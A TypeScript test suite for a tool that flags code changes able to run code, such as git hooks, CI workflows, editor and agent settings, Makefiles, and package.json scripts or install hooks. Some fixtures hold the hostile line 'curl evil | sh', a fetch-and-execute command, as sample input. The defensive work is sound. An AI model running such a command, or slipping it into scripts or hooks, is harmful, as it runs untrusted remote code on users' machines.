import assert from 'node:assert/strict'
import { describe, test } from 'node:test'

import kleur from 'kleur'

import { parsePatch, type FilePatch } from '../../lib/patch/parse.ts'
import { touchesScripts } from '../../lib/patch/manifest-risk.ts'
import { changeRiskFlags, flagLines, riskFlags, riskLines } from '../../lib/patch/risk.ts'

kleur.enabled = false

/** A one-line modification of `path`, as git writes it. */
function modified(path: string): FilePatch {
  return parsePatch(
    `diff --git a/${path} b/${path}\nindex 1111111..2222222 100644\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-old\n+new\n`,
  )[0]
}

function packageJson(hunk: string, kind: 'modified' | 'added' = 'modified'): FilePatch {
  const head =
    kind === 'added'
      ? 'diff --git a/package.json b/package.json\nnew file mode 100644\nindex 0000000..2222222\n--- /dev/null\n+++ b/package.json\n'
      : 'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n'
  return parsePatch(head + hunk)[0]
}

describe('risk flags', () => {
  const flagged = [
    ['.husky/pre-commit', 'git hook'],
    ['.githooks/post-checkout', 'git hook'],
    ['tools/.githooks/pre-push', 'git hook'],
    ['.pre-commit-config.yaml', 'git hook'],
    ['.gitattributes', 'git attributes (filters, diff drivers)'],
    ['src/.gitattributes', 'git attributes (filters, diff drivers)'],
    ['.gitmodules', 'submodules'],
    ['.vscode/tasks.json', 'editor tasks/settings'],
    ['.vscode/settings.json', 'editor tasks/settings'],
    ['.VSCode/Tasks.json', 'editor tasks/settings'], // the same file on a case-insensitive disk
    ['.claude/settings.json', 'agent settings'],
    ['.claude/settings.local.json', 'agent settings'],
    ['.github/workflows/ci.yml', 'CI workflow'],
    ['.gitlab-ci.yml', 'CI definition'],
    ['.circleci/config.yml', 'CI definition'],
    ['Jenkinsfile', 'CI definition'],
    ['.envrc', 'direnv script'],
    ['Makefile', 'Makefile'],
    ['sub/GNUmakefile', 'Makefile'],
    ['.npmrc', 'package manager config (can run code on install)'],
  ] as const
  for (const [path, why] of flagged) {
    test(`flags ${path}`, () => assert.deepEqual(riskFlags([modified(path)]), [{ path, why }]))
  }

  const harmless = [
    'README.md',
    'src/Makefile.md',
    '.github/ISSUE_TEMPLATE/bug.md',
    '.vscode/extensions.json',
    'claude/settings.json',
    'docs/.github/workflows.md',
    'lib/gitattributes.ts',
    'sub/.gitmodules',
  ]
  for (const path of harmless) {
    test(`does not flag ${path}`, () => assert.deepEqual(riskFlags([modified(path)]), []))
  }

  test('a rename is flagged by either of its names', () => {
    const [file] = parsePatch(
      'diff --git a/ci.yml b/.github/workflows/ci.yml\nsimilarity index 100%\nrename from ci.yml\nrename to .github/workflows/ci.yml\n',
    )
    assert.deepEqual(riskFlags([file]), [{ path: '.github/workflows/ci.yml', why: 'CI workflow' }])
    const [out] = parsePatch(
      'diff --git a/.husky/pre-commit b/old-hook\nsimilarity index 100%\nrename from .husky/pre-commit\nrename to old-hook\n',
    )
    assert.deepEqual(
      riskFlags([out]).map((f) => f.path),
      ['.husky/pre-commit'],
    )
  })

  test('riskLines names every flagged file and is empty without flags', () => {
    assert.deepEqual(riskLines([modified('README.md')]), [])
    const lines = riskLines([modified('Makefile'), modified('a.txt'), modified('.envrc')])
    assert.equal(lines.length, 3)
    assert.match(lines[0], /2 changes can run code/)
    assert.deepEqual(lines.slice(1), ['  ! Makefile (Makefile)', '  ! .envrc (direnv script)'])
  })
})

describe('package.json scripts', () => {
  test('a script changed next to the "scripts" line', () => {
    assert.ok(
      touchesScripts(
        packageJson('@@ -1,5 +1,5 @@\n {\n   "scripts": {\n-    "test": "node --test"\n+    "test": "curl evil | sh"\n   },\n'),
      ),
    )
  })

  test('a script changed deep in a long scripts block, where the hunk does not show "scripts"', () => {
    const hunk =
      '@@ -10,7 +10,7 @@\n     "b": "b",\n     "c": "c",\n     "d": "d",\n-    "e": "e"\n+    "e": "curl evil | sh"\n   },\n   "dependencies": {\n'
    assert.ok(touchesScripts(packageJson(hunk)))
  })

  test('an install hook added anywhere', () => {
    assert.ok(touchesScripts(packageJson('@@ -2,1 +2,2 @@\n   "name": "x",\n+  "postinstall": "node x.js",\n')))
  })

  test('a new package.json with scripts, but not one without', () => {
    assert.ok(touchesScripts(packageJson('@@ -0,0 +1,3 @@\n+{\n+  "scripts": { "build": "tsc" }\n+}\n', 'added')))
    assert.equal(touchesScripts(packageJson('@@ -0,0 +1,3 @@\n+{\n+  "name": "x"\n+}\n', 'added')), false)
  })

  test('a version bump or a dependency inside its shown block is not a scripts change', () => {
    assert.equal(
      touchesScripts(
        packageJson('@@ -1,4 +1,4 @@\n {\n   "name": "x",\n-  "version": "1.0.0",\n+  "version": "1.0.1",\n   "type": "module",\n'),
      ),
      false,
    )
    assert.equal(
      touchesScripts(packageJson('@@ -8,4 +8,4 @@\n   },\n   "dependencies": {\n-    "kleur": "^4.1.4"\n+    "kleur": "^4.1.5"\n   }\n')),
      false,
    )
    assert.equal(
      touchesScripts(packageJson('@@ -2,2 +2,2 @@\n-  "version": "1.0.0",\n+  "version": "1.0.1",\n   "type": "module",\n')),
      false,
    )
  })

  test('riskFlags reports it with the file', () => {
    const file = packageJson('@@ -1,3 +1,3 @@\n   "scripts": {\n-    "x": "a"\n+    "x": "b"\n   },\n')
    assert.deepEqual(riskFlags([file]), [{ path: 'package.json', why: 'package.json scripts' }])
  })
})

describe('flags of a change whose text is read only when needed', () => {
  test('the text is asked for only for a manifest, and the flags are the same', () => {
    const manifest = packageJson('@@ -1,3 +1,3 @@\n   "scripts": {\n-    "x": "a"\n+    "x": "b"\n   },\n')
    for (const file of [modified('Makefile'), modified('src/a.ts'), modified('.github/workflows/ci.yml'), manifest]) {
      let asked = 0
      const flags = changeRiskFlags(file, () => {
        asked++
        return file.text
      })
      assert.deepEqual(flags, riskFlags([file]))
      assert.equal(asked, file === manifest ? 1 : 0, file.path)
    }
  })

  test('a rename is judged by both of its paths', () => {
    const [file] = parsePatch('diff --git a/.envrc b/envrc.txt\nsimilarity index 100%\nrename from .envrc\nrename to envrc.txt\n')
    assert.deepEqual(riskFlags([file]), [{ path: '.envrc', why: 'direnv script' }])
    assert.deepEqual(flagLines(riskFlags([file])), riskLines([file]))
  })
})
